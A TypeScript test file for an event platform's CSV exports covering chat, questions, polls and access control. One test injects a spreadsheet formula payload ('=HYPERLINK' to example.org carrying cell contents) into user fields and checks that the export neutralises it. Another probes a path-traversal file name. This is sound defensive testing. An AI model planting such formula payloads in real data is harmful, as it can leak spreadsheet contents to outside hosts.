import { eq } from "drizzle-orm";
import { afterAll, beforeAll, expect, test } from "vitest";
import { users } from "../../db/schema/accounts-tables.ts";
import { pollOptions, polls, questions } from "../../db/schema/engagement-tables.ts";
import { sessions } from "../../db/schema/events-tables.ts";
import { auditLog } from "../../db/schema/operations-tables.ts";
import { chatMessages } from "../../db/schema/session-log-tables.ts";
import { exportSheetNames } from "../../protocol/exports.ts";
import { newIdentifier } from "../../protocol/identifier.ts";
import { makeViewerHours } from "../analytics/test-watching.ts";
import { chatScene } from "../chat/test-chat-scene.ts";
import { call, newToken, signIn } from "../streams/test-client.ts";
import { giveRole, makeEvent, makeSession, makeUser, seat } from "../streams/test-scene.ts";
import { createTestApi, type TestApi } from "../test-application.ts";
import { fetchSheet } from "./test-export.ts";

let api: TestApi;
let token: string;
beforeAll(async () => {
  api = await createTestApi();
  token = await newToken(api, "admin");
});
afterAll(() => api.drop());

const sheet = (eventId: string, name: (typeof exportSheetNames)[number]) =>
  fetchSheet(api, token, eventId, name);

test("a sheet is a file to keep, with a name that people can read", async () => {
  const eventId = await makeEvent(api.deps.db, { title: "Frühjahr/Herbst" });
  const { headers, text } = await sheet(eventId, "chat");
  expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(headers.get("cache-control")).toBe("no-store");
  expect(headers.get("content-disposition")).toBe(
    "attachment; filename=\"Fruhjahr-Herbst chat.csv\"; filename*=UTF-8''Fr%C3%BChjahr-Herbst%20chat.csv",
  );
  expect(text.startsWith("\ufeffsent_at,session,author,")).toBe(true);
  expect(text.endsWith("\r\n")).toBe(true);
  const entries = await api.deps.db.select().from(auditLog).where(eq(auditLog.subjectId, eventId));
  expect(entries).toMatchObject([{ action: "event.exported", detail: { file: "chat.csv" } }]);
  const head = await api.publicApp.request(`/api/events/${eventId}/export/chat.csv`, {
    method: "HEAD",
    headers: { authorization: `Bearer ${token}` },
  });
  expect([head.status, await head.text()]).toEqual([200, ""]);
});

test.each(exportSheetNames)(
  "%s of an event in which nothing was is its first line alone, or zeros",
  async (name) => {
    const { db } = api.deps;
    const now = new Date();
    const empty = await makeEvent(db);
    const ofZeroSeconds = await makeEvent(db, { status: "ended", startsAt: now, endsAt: now });
    await makeSession(db, ofZeroSeconds, { status: "ended", startsAt: now, endsAt: now });
    for (const eventId of [empty, ofZeroSeconds]) {
      const { columns, rows } = await sheet(eventId, name);
      expect(columns.length).toBeGreaterThan(4);
      expect(rows.filter(({ of }) => of === undefined)).toEqual([]);
      for (const row of rows) expect([row.unique_viewers, row.watch_seconds]).toEqual(["0", "0"]);
    }
  },
);

test("who is not staff gets none, and what is no sheet is not there", async () => {
  const { ada, moderator, eventId, db } = await chatScene(api);
  await call(api, "GET", `/api/events/${eventId}/export/chat.csv`, 403, ada);
  await call(api, "GET", `/api/events/${eventId}/export/chat.csv`, 401);
  const speaker = await makeUser(db);
  await giveRole(db, eventId, speaker, "speaker");
  await call(api, "GET", `/api/events/${eventId}/export/chat.csv`, 403, await signIn(api, speaker));
  for (const file of ["chat", "chat.xlsx", "users.csv", "..%2Fchat.csv", "CHAT.csv"]) {
    await call(api, "GET", `/api/events/${eventId}/export/${file}`, 404, moderator);
  }
  await call(api, "GET", `/api/events/${newIdentifier("event")}/export/chat.csv`, 404, moderator);
  expect((await fetchSheet(api, moderator.token, eventId, "chat")).rows).toEqual([]);
});

test("the chat has all that was written, with what others do not see", async () => {
  const { ada, bob, moderator, sessionId, eventId } = await chatScene(api);
  const first = (await ada.say("Hello, all")).body.id as string;
  await bob.say("Hello back", { replyTo: first });
  const gone = (await bob.say("Nonsense")).body.id as string;
  await moderator.send("DELETE", `/api/chat/${gone}`, 204);
  await moderator.send("PATCH", `/api/chat/${first}/pin`, 200, { pinned: true });
  const mute = { userId: bob.id, seconds: 60, shadow: true };
  await moderator.send("POST", `/api/chat/session/${sessionId}/mutes`, 201, mute);
  await bob.say("Anyone?");
  const { rows } = await sheet(eventId, "chat");
  const shown = rows.map(({ author, text, state, deleted, pinned, reply_to }) => [
    author,
    text,
    state,
    deleted,
    pinned,
    reply_to,
  ]);
  expect(shown).toEqual([
    ["Person 0", "Hello, all", "visible", "false", "true", ""],
    ["Person 1", "Hello back", "visible", "false", "false", first],
    ["Person 1", "Nonsense", "visible", "true", "false", ""],
    ["Person 1", "Anyone?", "shadowed", "false", "false", ""],
  ]);
  expect(rows[0]).toMatchObject({
    session: "Keynote",
    author_id: ada.id,
    message_id: first,
    role: "attendee",
  });
  expect(rows[0]?.sent_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
});

test("who asks anonymously stays unnamed, unless the session said otherwise then and says so now", async () => {
  const { ada, moderator, sessionId, eventId, db } = await chatScene(api);
  const ask = (text: string, anonymous: boolean) =>
    ada.send("POST", `/api/questions/session/${sessionId}`, 201, { text, anonymous });
  const showAskers = (askersVisibleToStaff: boolean) =>
    db.update(sessions).set({ askersVisibleToStaff }).where(eq(sessions.id, sessionId));
  await ask("Open?", false);
  await ask("Promised?", true);
  await showAskers(true);
  await ask("Known to staff?", true);
  const askers = async () => {
    const { rows, text } = await fetchSheet(api, moderator.token, eventId, "questions");
    return { text, asked: rows.map((row) => [row.text, row.anonymous, row.asker, row.asker_id]) };
  };
  expect((await askers()).asked).toEqual([
    ["Open?", "false", "Person 0", ada.id],
    ["Promised?", "true", "", ""],
    ["Known to staff?", "true", "Person 0", ada.id],
  ]);
  await showAskers(false);
  expect((await askers()).asked.map(([, , asker]) => asker)).toEqual(["Person 0", "", ""]);
});

test("polls have a row for each option, in order, with shares of those who voted", async () => {
  const { ada, bob, moderator, sessionId, eventId } = await chatScene(api);
  const poll = { sessionId, question: "Tea?", options: ["Yes", "No", "Both"], multiple: true };
  const { body } = await moderator.send("POST", "/api/polls", 201, poll);
  const [yes, , both] = body.options.map(({ id }: { id: string }) => id);
  await ada.send("POST", `/api/polls/${body.id}/vote`, 200, { optionIds: [yes] });
  await bob.send("POST", `/api/polls/${body.id}/vote`, 200, { optionIds: [yes, both] });
  const { rows } = await sheet(eventId, "polls");
  expect(
    rows.map((row) => [row.option_number, row.option, row.votes, row.voters, row.share_of_voters]),
  ).toEqual([
    ["1", "Yes", "2", "2", "1"],
    ["2", "No", "0", "2", "0"],
    ["3", "Both", "1", "2", "0.5"],
  ]);
  expect(rows[0]).toMatchObject({ question: "Tea?", status: "open", multiple: "true", poll_id: body.id });
});

test("no text of anybody's opens as a formula, in any column of any sheet", async () => {
  const { db } = api.deps;
  const evil = '=HYPERLINK("http://example.org?"&A1,"x")\r\n;@SUM(1)';
  const eventId = await makeEvent(db, { title: evil });
  const at = new Date();
  const sessionId = await makeSession(db, eventId, { title: evil, startsAt: at });
  const userId = await makeUser(db, "attendee", evil);
  await db
    .update(users)
    .set({ email: `+${userId.toLowerCase()}@example.org` })
    .where(eq(users.id, userId));
  await seat(db, eventId, userId);
  await makeViewerHours(
    db,
    [eventId, sessionId],
    [{ viewerId: userId, firstAt: at, lastAt: at, watchedSeconds: 5, renditions: { [evil]: 5 } }],
  );
  await db
    .insert(chatMessages)
    .values({ id: newIdentifier("message"), sessionId, seq: 1, userId, text: evil });
  await db
    .insert(questions)
    .values({ id: newIdentifier("question"), sessionId, userId, text: evil, answer: evil });
  const pollId = newIdentifier("poll");
  await db.insert(polls).values({ id: pollId, sessionId, question: evil });
  await db.insert(pollOptions).values({ id: newIdentifier("pollOption"), pollId, position: 0, text: evil });
  for (const name of exportSheetNames) {
    const { rows } = await sheet(eventId, name);
    const cells = rows.flatMap((row) => Object.entries(row));
    for (const [column, cell] of cells) expect(cell, `${name} ${column}`).not.toMatch(/(^|;)[\s"]*[=+@\t\r]/);
    if (name !== "viewers") expect(JSON.stringify(rows), name).toContain("'=HYPERLINK");
  }
});
